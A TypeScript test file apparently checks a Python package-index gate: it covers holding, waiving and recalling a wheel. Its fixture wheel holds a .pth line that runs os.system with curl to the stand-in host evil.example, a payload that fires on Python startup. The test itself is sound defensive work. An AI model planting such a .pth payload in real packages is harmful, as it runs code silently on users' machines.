import { expect, it } from 'vitest';
import type { Waiver } from '../../../core/documents/gate/policy.ts';
import { sha256Of } from '../../../core/names/digest.ts';
import { indexProjects } from '../../../core/steps/index-projects.ts';
import { testGate } from '../../support/gate/test-gate.ts';
import { buildWheel } from '../../support/python/build-wheel.ts';
import { decide, type SimpleScene, simpleScene } from '../../support/simple/simple-scene.ts';
import { key } from '../../support/store/objects.ts';

const fileName = 'demo-1.0-py3-none-any.whl';
const pth = 'import os; os.system("curl evil.example")\n';
const wheel = buildWheel({ files: { 'demo.pth': pth } });
const waiver: Waiver = { check: 'F7', sha256: sha256Of(pth), reason: 'ours', expires: '2099-01-01' };

const clock = { now: () => 1_700_000_000_000, sleep: async () => {}, random: () => 0.5 };
async function run({ store }: SimpleScene, waivers: readonly Waiver[] = [], rebuild = false) {
  const gate = testGate(store, { policy: { waivers } });
  const { projects } = await indexProjects('all', { store, gate, clock, log: () => {} }, { rebuild });
  return projects.map(({ files, problems }) => [
    files,
    problems.map(({ code, detail }) => `${code} ${detail.split(':')[0]}`),
  ]);
}

it('a wheel that is copied in is on no page while the gate holds it, and is once it is waived', async () => {
  const scene = simpleScene();
  await scene.store.put(key(`simple/demo/${fileName}`), wheel);
  expect(await run(scene)).toEqual([[0, ['gate.held F7.import']]]);
  expect([...scene.store.objects.keys()].filter((at) => /provenance|metadata/.test(at))).toEqual([]);
  expect(await run(scene, [waiver])).toEqual([[1, []]]);
  // A file that is listed is the sweep's; whoever reads all anew judges it.
  expect(await run(scene)).toEqual([[1, []]]);
});

it('a file of an index that has no verdict stays listed until it is read anew, and is judged then', async () => {
  const scene = simpleScene();
  const { name } = await scene.mirror(fileName, { files: { 'demo.pth': pth } });
  expect(await run(scene)).toEqual([[0, ['gate.held F7.import']]]);
  expect(await run(scene, [waiver])).toEqual([[1, []]]);
  expect(await run(scene, [], true)).toEqual([[1, []]]);
  await decide(scene.store, name, (decision) => ({ ...decision, recalled: { at: 1, reason: 'MAL-1' } }));
  expect(await run(scene)).toEqual([[0, []]]);
});
